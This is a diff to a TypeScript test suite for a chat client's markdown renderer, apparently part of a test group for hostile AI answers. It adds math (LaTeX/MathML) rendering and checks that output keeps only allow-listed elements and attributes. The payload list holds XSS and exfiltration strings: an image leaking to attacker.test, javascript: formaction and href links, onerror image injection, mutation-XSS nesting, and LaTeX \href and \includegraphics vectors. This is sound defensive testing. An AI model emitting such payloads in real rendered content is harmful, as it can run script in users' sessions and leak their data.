@@ -2,6 +2,7 @@ import { expect } from 'chai'
 import { seededRandom } from '@colloquy/chat-core/testing'
 import { randomCuts, renderPieces } from '../testing/render-markdown.js'
 import type { RenderContext } from './render-context.js'
+import { Formulas } from './extras/math/index.js'
 import { highlight } from './extras/highlight.js'
 import { loadHtmlBuilder } from './load-html.js'
 
@@ -21,6 +22,7 @@ const BUILT_IN = [
   '![x](https://attacker.test/leak?q=1)',
   '<form action=https://attacker.test><button formaction=javascript:attacked()>x</button></form>',
   '<math><mtext><table><mglyph><style><img src=x onerror=attacked()></style></mglyph></table></mtext></math>',
+  '$\\href{javascript:attacked()}{x}$ and \\[\\text{<img src=x onerror=attacked()>}\\] $\\includegraphics{https://attacker.test/x}$',
   '<a href="https://a.test" ping="https://attacker.test" onclick="attacked()">x</a><link rel=prefetch href=https://attacker.test>',
 ]
 
@@ -31,26 +33,45 @@ const ELEMENTS = new Set(
     'u ul var'
   ).split(' '),
 )
+const MATH_ELEMENTS = new Set(
+  'math mrow mi mn mo ms mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mpadded mstyle'.split(
+    ' ',
+  ),
+)
 const ATTRIBUTES = new Set(
-  'href target rel title class type disabled checked tabindex role aria-label start scope colspan rowspan open lang dir'.split(
+  'display displaystyle scriptlevel stretchy fence form accent movablelimits linethickness lspace rspace width height depth mathvariant separator href target rel title class type disabled checked tabindex role aria-label start scope colspan rowspan open lang dir'.split(
     ' ',
   ),
 )
 /** Classes are ours alone: an answer cannot name one. */
 const CLASSES =
-  /^(?:|plain|tasks|code|code-bar|copy-code|table|image-link|h[1-6]|align-(?:left|right|center))$/
+  /^(?:|math(?: display)?(?: waiting)?|plain|tasks|code|code-bar|copy-code|table|image-link|h[1-6]|align-(?:left|right|center))$/
+
+/** Math whose library is there. */
+async function loadedFormulas(): Promise<Formulas> {
+  await new Promise<void>((done) => {
+    const first = new Formulas(done).build({ type: 'math', raw: '$x$', text: 'x', display: false })
+    if (!first.matches('.waiting')) done()
+  })
+  return new Formulas(() => undefined)
+}
 
 /** What is left in the document that could act; every payload must leave nothing. */
 function faultsOf(dom: Element): string[] {
   return [...dom.querySelectorAll('*')].flatMap((element) => [
-    ...(ELEMENTS.has(element.localName) && element instanceof HTMLElement ? [] : [`<${element.localName}>`]),
-    ...(CLASSES.test(element.className) ? [] : [`class=${element.className}`]),
+    ...(isKnown(element) ? [] : [`<${element.localName}>`]),
+    ...(CLASSES.test(element.getAttribute('class') ?? '') ? [] : [`class=${element.className}`]),
     ...[...element.attributes]
       .filter(({ name }) => !ATTRIBUTES.has(name))
       .map(({ name }) => `${element.localName} ${name}`),
     ...(element instanceof HTMLAnchorElement ? linkFaults(element) : []),
   ])
 }
+
+const isKnown = (element: Element): boolean =>
+  element.closest('.math > math')
+    ? element instanceof MathMLElement && MATH_ELEMENTS.has(element.localName)
+    : ELEMENTS.has(element.localName) && element instanceof HTMLElement
 
 function linkFaults(link: HTMLAnchorElement): string[] {
   const isSafe = /^(?:https?|mailto|tel):$/.test(link.protocol) && link.rel === 'noopener noreferrer nofollow'
@@ -107,6 +128,7 @@ describe('hostile answers', () => {
   const modes = [
     ['as text', () => Promise.resolve<Partial<RenderContext>>({})],
     ['where the site allows HTML', async () => ({ html: await loadHtmlBuilder() })],
+    ['with math', async () => ({ math: await loadedFormulas() })],
   ] as const
 
   for (const [mode, contextOf] of modes) {
